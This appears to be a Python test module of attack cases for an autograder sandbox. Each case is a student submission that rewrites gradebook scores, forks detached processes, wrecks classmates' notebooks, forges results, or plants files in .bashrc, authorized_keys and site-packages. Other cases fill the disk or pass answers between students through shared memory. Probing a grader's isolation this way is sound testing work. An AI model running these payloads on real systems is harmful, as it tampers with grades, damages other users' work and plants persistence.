"""Attacks that write where they may not: grades, classmates, the course, the home of the one who grades."""

from ..attack import PAD_MASK, Attack, mask

WRONG = "\ndef pad_mask(lengths, max_len):\n    return torch.ones(1)\n"


def writes(id: str, tries: str, body: str, **more) -> Attack:
    """`body` runs at the top of the cell. What fails there keeps nothing else from running."""
    return mask(id, tries, f"{body.strip()}\n{WRONG}", **more)


EVERYWHERE = """
import os
def plant(path, text="@MARK@"):
    for attempt in (
        lambda: open(path, "w").write(text),
        lambda: os.write(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND), text.encode()),
        lambda: os.truncate(path, 0),
        lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
    ):
        try:
            attempt()
        except OSError:
            pass
"""

GRADEBOOK = """
import sqlite3, time
def raise_grades():
    try:
        book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
        tables = [row[0] for row in book.execute("select name from sqlite_master where type = 'table'")]
        for table in tables:
            columns = [row[1] for row in book.execute(f"pragma table_info({table})")]
            for column in ("auto_score", "manual_score", "extra_credit", "max_score", "comment"):
                if column in columns:
                    book.execute(f"update {table} set {column} = 100")
        book.commit()
    except sqlite3.Error:
        pass
"""

ATTACKS = [
    writes("gradebook-at-once", "Writes full points into the gradebook.", GRADEBOOK + "raise_grades()"),
    writes(
        "gradebook-later",
        "Leaves a process behind that writes the gradebook when grading is over.",
        GRADEBOOK
        + """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(1024):
            try:
                os.close(fd)
            except OSError:
                pass
        for _ in range(30):
            raise_grades()
            time.sleep(1)
    os._exit(0)
""",
    ),
    writes(
        "gradebook-by-a-program",
        "Starts a detached Python that writes the gradebook later.",
        """
import os, subprocess, sys
code = "import sqlite3, time; time.sleep(2); b = sqlite3.connect('@COURSE@/gradebook.db')"
code += "; b.execute('update grade set manual_score = 100'); b.commit()"
for program in (sys.executable, "@PYTHON@", "/usr/bin/python3"):
    try:
        subprocess.Popen([program, "-c", code], start_new_session=True)
        os.system(f"nohup {program} -c \\"{code}\\" >/dev/null 2>&1 &")
    except OSError:
        pass
""",
    ),
    writes(
        "gradebook-locked",
        "Locks the gradebook and never lets go.",
        """
import fcntl, os, sqlite3, time
book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1, isolation_level=None)
try:
    book.execute("begin exclusive")
except sqlite3.Error:
    pass
try:
    fcntl.lockf(os.open("@COURSE@/gradebook.db", os.O_RDWR), fcntl.LOCK_EX)
except OSError:
    pass
time.sleep(1e6)
""",
        hangs=True,
    ),
    writes(
        "classmates-spoilt",
        "Empties, replaces, renames and removes a classmate's notebook and changes its mode and its times.",
        EVERYWHERE
        + """
import shutil
for name in ("aa-honest", "mm-honest", "zz-honest"):
    folder = f"@SUBMITTED@/{name}/00_start_here"
    path = folder + "/00_start_here.ipynb"
    plant(path)
    plant(folder + "/second.ipynb")
    for attempt in (
        lambda: os.chmod(path, 0), lambda: os.chown(path, 65534, 65534), lambda: os.utime(path, (0, 0)),
        lambda: os.setxattr(path, "user.mark", b"@MARK@"), lambda: os.rename(path, path + ".gone"),
        lambda: os.remove(path), lambda: os.chmod(folder, 0), lambda: shutil.rmtree(folder),
    ):
        try:
            attempt()
        except OSError:
            pass
""",
    ),
    writes(
        "results-forged",
        "Writes its own results where the grader keeps them.",
        EVERYWHERE
        + """
for folder in ("@OUT@", "@OUT@/reports", "@OUT@/reports/00_start_here", "@COURSE@/course/autograded"):
    try:
        os.makedirs(folder + "/@MARK@")
    except OSError:
        pass
own = "reports/00_start_here/results-forged.json"
for name in ("grades.csv", "log.jsonl", "run.json", "index.html", own):
    plant("@OUT@/" + name, '{"student": "results-forged", "score": 7.0, "status": "graded"}')
""",
    ),
    writes(
        "solutions-spoilt",
        "Spoils the solutions, so that every right answer would be wrong.",
        EVERYWHERE
        + """
for lesson in ("00_start_here", "05_additive"):
    plant(f"@COURSE@/solutions/{lesson}/{lesson}.ipynb")
    plant(f"@COURSE@/solutions/{lesson}/@MARK@")
""",
    ),
    writes(
        "grader-changed",
        "Puts files of its own among the grader's code and the installed packages.",
        EVERYWHERE
        + """
import sysconfig, torch
for folder in (
    "@REPO@", "@REPO@/autograder", "@REPO@/autograder/exercises", "@REPO@/seqattn_ref",
    "@REPO@/seqattn_ref/lab",
    sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), os.path.dirname(torch.__file__),
):
    plant(folder + "/@MARK@.pth", "# @MARK@")
""",
    ),
    writes(
        "configuration-planted",
        "Plants a configuration that the next command of the grader would run.",
        EVERYWHERE
        + """
for name in (".bashrc", ".profile", ".ssh/authorized_keys", ".jupyter/nbgrader_config.py",
             ".ipython/profile_default/startup/00.py", ".config/autostart/x.desktop", ".pythonrc.py",
             ".local/lib/python3.11/site-packages/usercustomize.py", ".config/matplotlib/matplotlibrc"):
    for home in ("@HOME@", os.path.expanduser("~")):
        try:
            os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
        except OSError:
            pass
        plant(f"{home}/{name}", "# @MARK@")
plant("@COURSE@/nbgrader_config.py", "# @MARK@")
plant("@COURSE@/torch.py", "# @MARK@")
""",
    ),
    writes(
        "shared-folders",
        "Leaves files in every folder that others read: /tmp, /var/tmp, /dev/shm, /run.",
        EVERYWHERE
        + """
import tempfile
for folder in ("@TMP@", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue"):
    plant(folder + "/@MARK@")
    try:
        os.mkfifo(folder + "/@MARK@-fifo")
    except OSError:
        pass
""",
    ),
    writes(
        "above-its-folder",
        "Writes into the folders above its own and through the names that /proc has for folders.",
        EVERYWHERE
        + """
for folder in ("..", "../..", "/", "/proc/self/cwd/..", "/proc/self/root@COURSE@", "@COURSE@/course"):
    plant(folder + "/@MARK@")
""",
    ),
    writes(
        "links-planted",
        "Plants links to the gradebook and to classmates in its own folder, for whoever cleans up.",
        """
import os
for target in ("@COURSE@", "@COURSE@/gradebook.db", "@SUBMITTED@/mm-honest", "/"):
    for name in ("link", "result", "core", "out"):
        for make in (os.symlink, os.link):
            try:
                make(target, f"{name}-{len(target)}")
            except OSError:
                pass
try:
    os.rename(os.getcwd(), os.getcwd() + "-moved")
    os.symlink("@COURSE@", os.getcwd())
except OSError:
    pass
""",
    ),
    writes(
        "folder-locked",
        "Leaves a folder that cannot be removed: modes taken away, deep, with names that no one can write.",
        r"""
import os
try:
    for _ in range(300):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass
for name in (b"\xff\xfe", b"-rf", b"new\nline", b" ", b"*"):
    try:
        os.mkdir(name)
        os.chmod(name, 0)
    except OSError:
        pass
try:
    os.chmod(".", 0)
except OSError:
    pass
""",
    ),
    writes(
        "disk-filled",
        "Fills the disk with half a gigabyte, in files that are small enough each.",
        """
try:
    for i in range(64):
        with open(f"large-{i}", "wb") as file:
            file.write(bytes(8 << 20))
except OSError:
    pass
""",
    ),
    writes(
        "files-many",
        "Makes 10,000 small files and folders.",
        """
import os
try:
    for i in range(5000):
        open(f"file-{i}", "w").close()
        os.mkdir(f"folder-{i}")
except OSError:
    pass
""",
    ),
    writes(
        "file-large",
        "Makes a file of a terabyte: with a hole, and with fallocate.",
        """
import os
try:
    with open("large", "wb") as file:
        os.truncate("large", 1 << 40)
        file.seek(1 << 40)
        file.write(b"end")
        os.posix_fallocate(file.fileno(), 0, 1 << 40)
except OSError:
    pass
""",
    ),
    mask(
        "relay-1-left",
        "Answers right and leaves its answer in every place where the next student could find it.",
        """
import os
answer = '''
def pad_mask(lengths, max_len):
    return torch.arange(max_len)[None] < lengths[:, None]
'''
os.environ["SEQATTN_RELAY"] = answer
for path in ("@TMP@/@MARK@-relay", "/var/tmp/@MARK@-relay", "/dev/shm/@MARK@-relay",
             os.path.expanduser("~/relay"), "relay", "../relay",
             os.path.dirname(torch.__file__) + "/@MARK@-relay"):
    try:
        with open(path, "w") as file:
            file.write(answer)
    except OSError:
        pass
try:
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    memory = libc.shmat(libc.shmget(0x5EA77, 4096, 0o1666), None, 0)
    if memory not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(memory, answer.encode() + b"\\0", len(answer) + 1)
    libc.syscall(248, b"user", b"seqattn-relay", answer.encode(), len(answer), -5)  # a key of the user's
except Exception:
    pass
"""
        + PAD_MASK,
        earned=3,
    ),
    mask(
        "relay-2-taken",
        "Looks in all these places for the answer that a classmate left.",
        """
import ctypes, os
def pad_mask(lengths, max_len):
    found = [os.environ.get("SEQATTN_RELAY", "")]
    for path in ("@TMP@/@MARK@-relay", "/var/tmp/@MARK@-relay", "/dev/shm/@MARK@-relay",
                 os.path.expanduser("~/relay"), "relay", "../relay",
                 os.path.dirname(torch.__file__) + "/@MARK@-relay"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    memory = libc.shmat(libc.shmget(0x5EA77, 4096, 0), None, 0)
    if memory not in (None, ctypes.c_void_p(-1).value):
        found.append(ctypes.string_at(memory).decode())
    buffer = ctypes.create_string_buffer(4096)
    key = libc.syscall(249, b"user", b"seqattn-relay", None, -5)
    if key > 0 and libc.syscall(250, 11, key, buffer, 4096, 0) > 0:
        found.append(buffer.value.decode())
    for source in found:
        if "pad_mask" in source:
            space = {"torch": torch}
            exec(source, space)
            return space["pad_mask"](lengths, max_len)
    raise FileNotFoundError("nobody left an answer")
""",
    ),
]
